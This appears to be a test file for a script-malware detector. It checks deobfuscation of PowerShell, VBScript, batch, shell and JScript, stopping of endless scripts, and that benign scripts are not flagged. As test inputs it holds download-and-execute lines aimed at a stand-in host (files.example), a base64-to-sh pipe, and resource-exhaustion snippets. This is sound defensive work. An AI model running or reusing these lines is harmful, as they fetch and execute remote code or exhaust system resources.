"""Scripts: what hides in them comes out, what never ends is ended, and honest ones are left alone."""

from __future__ import annotations

from pathlib import Path
from random import Random

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from kazami.detect.content.recursion import look
from kazami.detect.content.script import MEANINGS, RUNS, analyze, encoded, jscript, trait
from kazami.detect.content.script.basic import machine as basic
from kazami.detect.content.script.batch import machine as cmd
from kazami.detect.content.script.powershell import machine as powershell
from kazami.detect.content.script.record import Meter
from kazami.detect.content.script.shell import machine as shell
from kazami.detect.content.script.tree import Folds, Node
from kazami.detect.content.verdict import judge
from kazami.engine import confine
from kazami.model.content import Artifact, Gap, Limits, Looked, Scope, Verdict
from kazami.pipeline.inspect import analyzers, meanings
from script_words import encode
from script_writer import PAYLOADS, TECHNIQUES

EVERY = [(language, technique) for language, of in TECHNIQUES.items() for technique in of]
MARKS = st.text("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789", min_size=6, max_size=12)


#: What comes out does not depend on how busy the machine is.
PATIENT = Limits(seconds=120.0, submission_seconds=600.0)


def seen(name: str, data: bytes) -> tuple[list[Looked], list[bytes], Verdict]:
    """A file through all analyzers: what was said, what came out, and the verdict."""
    kept: list[bytes] = []
    told = list(
        look(Artifact(data, (name,)), analyzers(), Scope(PATIENT), keep=lambda one: kept.append(one.data))
    )
    looked = [one for one in told if isinstance(one, Looked)]
    return looked, kept[1:], judge(looked, meanings(), [one for one in told if isinstance(one, Gap)])


@pytest.mark.parametrize(("language", "technique"), EVERY, ids=lambda value: value)
@settings(max_examples=6, deadline=None, derandomize=True)
@given(seed=st.integers(0, 1 << 32), mark=MARKS)
def test_what_is_hidden_comes_out(language: str, technique: str, seed: int, mark: str) -> None:
    if language in ("js", "jse") and confine.possible():
        pytest.skip(confine.possible())
    text = PAYLOADS[language].format(mark=mark)
    script = TECHNIQUES[language][technique](text, Random(seed))
    _, children, _ = seen(f"a.{language}", script.encode("latin-1"))
    assert any(text.encode() in data for data in children)


POWERSHELL = yaml.safe_load("""
"'a' + 'b' + 1": ab1
"[char]72 + [char]105": Hi
"'{0:x2}{1,4}|{2}' -f 10, 'r', 'z'": 0a   r|z
"(1..5 | ? { $_ % 2 } | % { $_ * 2 }) -join ','": 2,6,10
"'a,b;c' -split '[,;]' -join ''": abc
"'Hello' -creplace 'l','L'": HeLLo
"'abc'[-1] + 'abc'[0]": ca
"'abc'.Substring(1).ToUpper().PadLeft(4,'.')": ..BC
"[string]::Join('-', @('a','b'))": a-b
"$x = 5; $x += 2; $x -shl 1": 14
"if (1 -gt 2) { 'a' } elseif ('b' -like 'B*') { 'b' } else { 'c' }": b
"$i = 0; do { $i++ } until ($i -ge 4); $i": 4
"$h = @{ a = 1; 'b' = 2 }; $h.a + $h['b']": 3
"function f($a, $b = 3) { return $a * $b }; f 2": 6
"& { param($n) $n + 1 } 4": 5
"'a1b22' -replace '(\\\\d+)', '<$1>'": a<1>b<22>
"try { throw 'x' } catch { 'caught' }": caught
"[Convert]::ToString(255, 16)": ff
"$env:ComSpec.Length": 27
"-join ('abc'.ToCharArray() | sort -Descending)": cba
"[math]::Abs(-4) -band 6": 4
"'x' * 3": xxx
"0x41 -as [char]": A
"$a, $b = 1, 2; \\"$b$a$($a + $b)\\"": 213
"@'\\nline\\n'@": line
""")


@pytest.mark.parametrize("source", POWERSHELL)
def test_powershell_is_calculated_as_windows_does(source: str) -> None:
    record = powershell.run(f"iex ((& {{ {source} }}) -join '')")
    assert [layer.data.decode() for layer in record.layers] == [str(POWERSHELL[source])]


FORMS = yaml.safe_load(Path(__file__).with_name("script_forms.yml").read_text("utf-8"))
RUN_AS = {"ps1": "powershell", "vbs": "vbscript", "bat": "batch"}


@pytest.mark.parametrize(
    ("language", "source"), [(language, source) for language, of in FORMS.items() for source in of]
)
def test_forms_come_to_what_they_come_to(language: str, source: str) -> None:
    record = RUNS[RUN_AS[language]](source, Meter())
    layers = [layer.data.decode() for layer in record.layers]
    assert FORMS[language][source] == (layers or [call for call in record.calls if call.startswith("run(")])


BASIC = yaml.safe_load("""
'1 + 2 & "a"': 3a
'"5" * 2 \\ 3': '3'
'10 Mod 4 ^ 2': '10'
'Not 1 = 2': 'True'
'5 Xor 3 Or 8': '14'
'Mid("abcdef", 2, 3) & Left("xy", 1) & Right("xyz", 2)': bcdxyz
'InStr("hello", "l") & InStrRev("hello", "l")': '34'
'Hex(255) & Oct(8) & CLng("&H10")': FF1016
'Join(Array("a", "b"), "-") & UBound(Split("a,b,c", ","))': a-b2
'Replace("aXbX", "X", "") & StrReverse("cb") & UCase("q")': abbcQ
'Chr(65) & Asc("B") & Len("abc") & Space(1) & String(2, "z")': A663 zz
'-2 ^ 2': '-4'
'IIf(2 > 1, "y", "n") & Trim("  t ")': yt
'"a" < "b" And 2 >= 2': 'True'
""")


@pytest.mark.parametrize("source", BASIC)
def test_basic_is_calculated_as_windows_does(source: str) -> None:
    record = basic.run(f"Execute CStr({source})")
    assert [layer.data.decode() for layer in record.layers] == [BASIC[source]]


ENDLESS = {
    "loop.ps1": "while ($true) { $x += 1 }",
    "doubling.ps1": "$x = 'aaaaaaaa'; while (1) { $x = $x + $x }",
    "itself.ps1": "function f { f }; f",
    "nested.ps1": "iex " + "(" * 4000 + "'a'" + ")" * 4000,
    "range.ps1": "1..99999999 | % { $_ }",
    "pattern.ps1": "('a' * 40 + '!') -match '^(a+)+$'; while (1) {}",
    "loop.vbs": "Do\n x = x + 1\nLoop",
    "doubling.vbs": 'x = "aaaaaaaa"\nDo\n x = x & x\nLoop',
    "itself.vbs": "Sub f\n f\nEnd Sub\nf",
    "array.vbs": "Dim a(99999, 99999)",
    "step.vbs": "For i = 1 To 2 Step 0\nNext",
    "loop.bat": ":a\ngoto a",
    "doubling.bat": "set x=aaaaaaaa\n:a\nset x=%x%%x%\ngoto a",
    "loop.sh": "for ((;;)); do x=1; done",
    "doubling.sh": "x=aaaaaaaa; for ((;;)); do x=$x$x; done",
    "nested.sh": "echo " + "$(" * 300 + "a" + ")" * 300,
    "words.sh": "echo {a..z}{a..z}{a..z}{a..z}{a..z}",
}


@pytest.mark.parametrize("name", ENDLESS)
def test_what_never_ends_is_ended_and_not_clean(name: str) -> None:
    analysis = analyze(ENDLESS[name].encode(), Scope(name=name, kind="text"))
    assert analysis.gaps
    assert {gap.kind for gap in analysis.gaps} <= {"time", "limit", "memory"}


@pytest.mark.parametrize(
    ("run", "source"),
    [
        (powershell.run, "iex $env:NOBODY_KNOWS"),
        (powershell.run, "& (Get-Content C:\\x.txt) 1"),
        (powershell.run, "[scriptblock]::Create((irm http://files.example/a)).Invoke()"),
        (basic.run, 'Set x = CreateObject("MSXML2.XMLHTTP")\nExecute x.responseText'),
        (basic.run, "CreateObject(Document.Title)"),
        (basic.run, "Eval(InputBox(1))"),
    ],
)
def test_a_call_whose_text_is_not_known_is_named(run: object, source: str) -> None:
    assert run(source).unresolved  # type: ignore[operator]


@pytest.mark.parametrize("source", ["Get-ChildItem | Sort-Object Length", "iex 'Get-Date'"])
def test_what_is_known_is_not_called_unresolved(source: str) -> None:
    assert powershell.run(source).unresolved == []


@given(st.binary(max_size=400))
@settings(max_examples=40, deadline=None)
def test_what_is_encoded_comes_back(plain: bytes) -> None:
    body = bytes(code for code in plain if code in (9, 10, 13) or 32 <= code < 127)
    found = encoded.analyze(encode(body), Scope(name="a.vbe")).children
    assert [child.data for child in found] == ([body] if body else [b""])


VECTORS = yaml.safe_load(Path(__file__).with_name("script_patterns.yml").read_text("utf-8"))


@pytest.mark.parametrize("feature", VECTORS)
def test_each_pattern_has_its_vector_and_its_near_miss(feature: str) -> None:
    row = VECTORS[feature]
    languages = {language for one in trait._traits() if one.name == feature for language in one.languages}
    language = sorted(languages)[0] if languages else "powershell"
    for line in row["yes"]:
        assert any(
            feature == found.name for where in ("text", "call") for found in trait.seen(line, language, where)
        ), line
    for line in row["no"]:
        assert not any(
            feature == found.name for where in ("text", "call") for found in trait.seen(line, language, where)
        ), line
    for one in trait._traits():
        if one.name == feature:
            assert any(one.pattern.search(line.encode()) for line in row["yes"]), one.pattern.pattern


def test_all_patterns_mean_something_and_have_vectors() -> None:
    assert trait.names() <= MEANINGS.keys()
    assert trait.names() == VECTORS.keys()


def test_a_hidden_dropper_is_malicious_and_an_administrator_is_not() -> None:
    chance = Random(3)
    fetch = (
        "(New-Object Net.WebClient).DownloadFile('http://files.example/a.txt', 'a.txt'); Start-Process a.txt"
    )
    hidden = TECHNIQUES["ps1"]["nested"](fetch, chance)
    assert seen("a.ps1", hidden.encode())[2].word == "malicious"
    plain = "Get-Service | Where-Object Status -eq 'Running' | Export-Csv services.csv -NoTypeInformation"
    assert seen("a.ps1", plain.encode())[2].word in ("clean", "informational")


JSCRIPT = {
    "quits": ("WScript.Quit(); new ActiveXObject('WScript.Shell').Run('a.exe')", []),
    "any case": (
        "new activexobject('x'); var s = WScript.CREATEOBJECT('wscript.shell'); s.rUN('a.exe /b', 0)",
        ["a.exe /b"],
    ),
    "any name": (
        "var s = new window.top.Thing(); document.body.onload = function () { WScript.CreateObject('Shell.Application').ShellExecute('a.exe', '/c') }",
        ["a.exe /c"],
    ),
    "replaced functions": (
        "JSON.stringify = null; Array.prototype.push = null; String.prototype.slice = null; eval('var held = 1')",
        ["var held = 1"],
    ),
    "a file": (
        "var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('b.txt'); f.Write('one '); f.Write('two')",
        ["one two"],
    ),
}


@pytest.mark.skipif(bool(confine.possible()), reason=f"no script is run: {confine.possible()}")
@pytest.mark.parametrize("case", JSCRIPT)
def test_jscript_is_recorded(case: str) -> None:
    source, layers = JSCRIPT[case]
    assert [layer.data.decode() for layer in jscript.run(source, 120.0).layers] == layers


@pytest.mark.skipif(bool(confine.possible()), reason=f"no script is run: {confine.possible()}")
@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("eval('1'); while (true) {}", "time"),
        ("eval('1'); var a = 'x'; while (true) a += a;", "memory"),
        ("eval('1'); /(a+)+$/.test(new Array(60).join('a') + '!')", "time"),
    ],
)
def test_jscript_without_end_is_ended(source: str, kind: str) -> None:
    assert [gap.kind for gap in jscript.analyze(source.encode(), Scope(PATIENT, name="a.js")).gaps] == [kind]


@pytest.mark.skipif(bool(confine.possible()), reason=f"no script is run: {confine.possible()}")
def test_what_only_a_made_up_name_keeps_going_is_no_gap() -> None:
    analysis = jscript.analyze(
        b"while (document.next) { document = document.next; } eval('1')", Scope(PATIENT, name="a.js")
    )
    assert [feature.name for feature in analysis.features] == ["script.stopped"]
    assert analysis.gaps == ()


def test_where_nothing_can_be_confined_no_script_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confine, "possible", lambda: "no filter here")
    gaps = jscript.analyze(b"eval('1' + x)", Scope(PATIENT, name="a.js")).gaps
    assert [(gap.kind, gap.reason) for gap in gaps] == [
        ("missing", "scripts are not run here: no filter here")
    ]


def test_layers_are_children_with_their_way_out() -> None:
    script = TECHNIQUES["bat"]["certutil"]("kazami.exe /layered", Random(1))
    looked, children, _ = seen("a.bat", script.encode())
    assert b"kazami.exe /layered" in children
    assert [one.relation for one in looked][1:] == ["decoded"] * (len(looked) - 1)


def test_the_meter_stops_by_the_clock_too() -> None:
    record = powershell.run("while ($true) { $x = 'a' * 90000 }", Meter(seconds=0.01))
    assert (record.gap, record.stopped) == ("time", "more than 0.01 s")


def test_what_differs_from_turn_to_turn_is_not_written_out() -> None:
    folds = Folds()
    for value in ("b", "c"):
        folds.add(Node("chain", 1, 2), value)
    folds.add(Node("chain", 4, 9), "it's")
    folds.add(Node("index", 5, 6), "inner")
    assert folds.written("a+b c+d-e f", "'") == "a+b 'it''s' f"


def test_shell_and_batch_keep_what_they_cannot_resolve() -> None:
    assert shell.run("echo $UNKNOWN | base64 -d | sh").layers == []
    assert cmd.run("call %UNKNOWN% /x").calls == ['run("/x")']


DISGUISES = yaml.safe_load(Path(__file__).with_name("script_disguises.yml").read_text("utf-8"))


@pytest.mark.parametrize("name", DISGUISES)
def test_what_a_disguise_hides_is_seen_and_said(name: str) -> None:
    if name.endswith((".js", ".hta")) and confine.possible():
        pytest.skip(confine.possible())
    looked, children, verdict = seen(name, DISGUISES[name].encode("latin-1"))
    said = [f.value for one in looked for f in one.features if f.place == "recorded call"]
    assert any("192.0.2.1/x" in text for text in (*said, *(data.decode("latin-1") for data in children)))
    assert verdict.word in ("suspicious", "malicious")


HONEST = sorted(Path(__file__).with_name("honest_scripts").iterdir())


@pytest.mark.parametrize("path", HONEST, ids=lambda path: path.name)
def test_honest_scripts_that_look_alike_are_not_accused(path: Path) -> None:
    if path.suffix in (".js", ".hta") and confine.possible():
        pytest.skip(confine.possible())
    assert seen(path.name, path.read_bytes())[2].word in ("clean", "informational")
